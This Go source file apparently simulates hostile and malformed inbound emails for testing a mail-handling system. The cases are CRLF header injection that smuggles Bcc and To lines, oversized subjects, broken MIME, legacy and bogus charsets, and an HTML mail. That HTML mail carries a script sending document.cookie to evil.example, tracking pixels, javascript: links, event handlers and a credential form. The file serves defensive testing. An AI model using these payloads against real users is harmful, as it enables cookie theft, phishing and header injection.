package demo

import (
	"encoding/base64"
	"fmt"
	"mime"
	"strings"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
)

// headerInjection carries CR LF and header lines inside encoded words and
// a display name: whatever copies them into a reply's header must not
// create the Bcc or To they spell.
func (s *Simulator) headerInjection() Mail {
	a, p := s.contact()
	order := a.Orders[s.rng.IntN(len(a.Orders))].Number
	subject := "Status of " + order + "\r\nBcc: everyone@victims.example\r\nX-Injected: yes"
	name := p.Name + "\r\nTo: ceo@victims.example"
	text := fmt.Sprintf("Hi,\n\nwhere is order %s?\n\nThanks\n", order)
	d := draft{text: text}
	m := s.finish(KindHeaderInjection, p, "Status of "+order, text, d)
	// finish wrote plain fields; put the encoded attack words in instead.
	m.Subject = subject
	raw := string(m.Raw)
	raw = replaceHeader(raw, "Subject", mime.BEncoding.Encode("utf-8", subject))
	raw = replaceHeader(raw, "From", mime.BEncoding.Encode("utf-8", name)+" <"+p.Email+">")
	m.Raw = []byte(raw)
	return m
}

// hugeSubject has a subject of several kilobytes and a very long line.
func (s *Simulator) hugeSubject() Mail {
	_, p := s.sender(KindQuoteRequest)
	words := []string{"quote", "urgent", "pricing", "bulk", "discount", "bolts", "helmets", "ASAP", "please", "!!!"}
	var b strings.Builder
	b.WriteString("Request for quote")
	for b.Len() < 6000 {
		b.WriteString(" " + s.pick(words))
	}
	subject := b.String()
	text := "Please quote for the items in the subject.\n\n" + strings.Repeat("x", 5000) + "\n"
	return s.finish(KindHugeSubject, p, subject, text, draft{text: text})
}

// brokenMIME declares one boundary and uses another, with a base64 part
// that is not base64 and no closing delimiter.
func (s *Simulator) brokenMIME() Mail {
	a, p := s.contact()
	order := a.Orders[s.rng.IntN(len(a.Orders))].Number
	body := fmt.Sprintf(`--wrong-boundary
Content-Type: text/plain; charset=utf-8

Hello, can you tell me when %s ships?

--wrong-boundary
Content-Type: application/octet-stream; name="order.xlsx"
Content-Transfer-Encoding: base64

!!! this is not base64 at all !!!
UEsDBBQABgAIAAAAIQ==***truncated
`, order)
	d := draft{contentType: `multipart/mixed; boundary="declared-boundary"`, body: body}
	return s.finish(KindBrokenMIME, p, "Delivery date "+order, "", d)
}

// oddCharset writes in a legacy or unknown charset.
func (s *Simulator) oddCharset() Mail {
	a, p := s.contact()
	order := a.Orders[s.rng.IntN(len(a.Orders))].Number
	var subject, ctype, body string
	switch s.rng.IntN(4) {
	case 0: // Russian in windows-1251
		text := "Здравствуйте!\n\nПодскажите, пожалуйста, статус заказа " + order + ".\n\nС уважением,\nИван Петров\n"
		enc, _ := charmap.Windows1251.NewEncoder().String(text)
		subject = "Статус заказа " + order
		ctype, body = "text/plain; charset=windows-1251", enc
	case 1: // Japanese in ISO-2022-JP
		text := "お世話になっております。\n注文 " + order + " の納期を教えてください。\nよろしくお願いいたします。\n"
		enc, _ := japanese.ISO2022JP.NewEncoder().String(text)
		subject = "納期の確認 " + order
		ctype, body = "text/plain; charset=ISO-2022-JP", enc
	case 2: // a charset nobody knows
		subject = "Anfrage zu Bestellung " + order
		ctype, body = "text/plain; charset=x-klingon-8", "Guten Tag, wann wird "+order+" geliefert? Gr\xfc\xdfe aus M\xfcnchen\n"
	default: // Latin-1 bytes declared as UTF-8
		subject = "Pedido " + order
		ctype, body = "text/plain; charset=utf-8", "Buenos d\xedas, \xbfcu\xe1ndo llega el pedido "+order+"? Gracias, se\xf1or\n"
	}
	d := draft{contentType: ctype, body: body}
	m := s.finish(KindOddCharset, p, subject, "", d)
	if strings.Contains(ctype, "ISO-2022-JP") {
		enc, _ := japanese.ISO2022JP.NewEncoder().String(subject)
		m.Raw = []byte(replaceHeader(string(m.Raw), "Subject", "=?ISO-2022-JP?B?"+base64.StdEncoding.EncodeToString([]byte(enc))+"?="))
	}
	return m
}

// scriptHTML is HTML-only mail with scripts, event handlers, javascript:
// links, styles and frames: whatever shows it must neutralise them.
func (s *Simulator) scriptHTML() Mail {
	_, p := s.contact()
	html := `<html><head><style>body{background:url(https://tracker.evil.example/pixel)}</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script></head>
<body onload="alert('pwned')">
<p>Hello, please look at our <a href="javascript:alert(document.cookie)">purchase order</a>.</p>
<img src="https://tracker.evil.example/open.gif" onerror="alert(1)" width="1" height="1">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"></form>
<p style="color:red" onclick="steal()">We need <b>200 helmets</b> by Friday.</p>
</body></html>`
	d := draft{contentType: "text/html; charset=utf-8", body: html}
	return s.finish(KindScriptHTML, p, "Purchase order <script>alert(1)</script>", "", d)
}

// replaceHeader replaces the first field called name in raw's header.
func replaceHeader(raw, name, value string) string {
	head, body, _ := strings.Cut(raw, "\r\n\r\n")
	lines := strings.Split(head, "\r\n")
	out := make([]string, 0, len(lines))
	skip := false
	done := false
	for _, l := range lines {
		if skip && (strings.HasPrefix(l, " ") || strings.HasPrefix(l, "\t")) {
			continue
		}
		skip = false
		if !done && strings.HasPrefix(strings.ToLower(l), strings.ToLower(name)+":") {
			out = append(out, name+": "+value)
			skip, done = true, true
			continue
		}
		out = append(out, l)
	}
	return strings.Join(out, "\r\n") + "\r\n\r\n" + body
}
